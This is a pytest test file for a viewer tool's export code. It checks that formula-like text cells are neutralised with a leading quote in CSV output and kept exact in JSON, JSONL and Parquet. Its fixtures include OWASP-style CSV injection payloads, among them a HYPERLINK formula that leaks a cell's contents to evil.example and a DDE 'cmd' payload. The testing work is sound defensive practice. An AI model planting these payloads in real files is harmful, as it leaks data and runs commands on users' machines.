"""Exports: CSV cells a spreadsheet would run as formulas are neutralised (OWASP), in every CSV
the product writes; JSON, JSONL and Parquet keep the exact text."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from viewer.align import align
from viewer.cli import main
from viewer.export import frame_csv, spreadsheet_safe, to_csv, to_json

# What OWASP's CSV injection page shows, as they would arrive in a document or an id.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


@pytest.mark.parametrize(("cell", "shown"), [
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    (SUM, "'" + SUM),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("a=b", "a=b"),            # only the first character matters
    (" =1", " =1"),            # a leading space is not a formula start in the guidance
    ("", ""),
    ("plain words", "plain words"),
])
def test_text_cells_starting_like_a_formula_get_a_quote(cell, shown):
    assert spreadsheet_safe(cell) == shown


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.5, None])
def test_numbers_and_missing_values_pass_unchanged(value):
    assert spreadsheet_safe(value) is value


def _csv_records(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_differences_csv_neutralises_document_text_and_json_keeps_it():
    original = "Keep this line. Then the end.\n"
    corrupted = f"Keep this line. {HYPERLINK} Then {CMD} the end. {SUM}\n"
    al = align(original, corrupted)
    records = _csv_records(to_csv(al))
    assert [(r["kind"], r["b_text"]) for r in records] == [
        ("inserted", "'" + HYPERLINK), ("inserted", "'" + CMD), ("inserted", "'" + SUM)]
    texts = [r["b_text"] for r in records]
    # the offsets stay numbers, and the JSON keeps every text exactly
    assert all(r["b_start"].isdigit() for r in records)
    hunks = json.loads(to_json(al, {}, {}))["hunks"]
    assert {h["b_text"] for h in hunks} == {t.removeprefix("'") for t in texts}
    for h in hunks:
        assert corrupted[h["b"][0]:h["b"][1]] == h["b_text"]


def test_frame_csv_neutralises_text_columns_only():
    frame = pd.DataFrame({"id": pd.array([SUM, "ok", None], dtype="string"),
                          "rate": [-0.25, 0.5, None], "n": pd.array([-1, 2, None], "Int64")})
    records = _csv_records(frame_csv(frame))
    assert [r["id"] for r in records] == ["'" + SUM, "ok", ""]
    assert [r["rate"] for r in records] == ["-0.25", "0.5", ""]
    assert [r["n"] for r in records] == ["-1", "2", ""]
    assert frame["id"][0] == SUM  # the caller's frame is untouched


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".parquet"])
def test_corpus_summary_ids_neutralised_in_csv_only(tmp_path, capsys, ext):
    ids = [HYPERLINK, CMD, SUM, "-1"]
    source = tmp_path / "c.jsonl"
    source.write_text("".join(json.dumps({"id": i, "original": "a b c", "corrupted": "a x c"})
                              + "\n" for i in ids), encoding="utf-8")
    out = tmp_path / f"rows{ext}"
    assert main(["corpus", str(source), "--out", str(out), "--workers", "1"]) == 0
    if ext == ".csv":
        records = _csv_records(out.read_text(encoding="utf-8"))
        assert [r["id"] for r in records] == ["'" + i for i in ids]
        assert [r["pair"] for r in records] == ["0", "1", "2", "3"]
        assert all(float(r["corruption_rate"]) > 0 for r in records)
    elif ext == ".jsonl":
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert [r["id"] for r in rows] == ids
    else:
        assert list(pd.read_parquet(out)["id"]) == ids
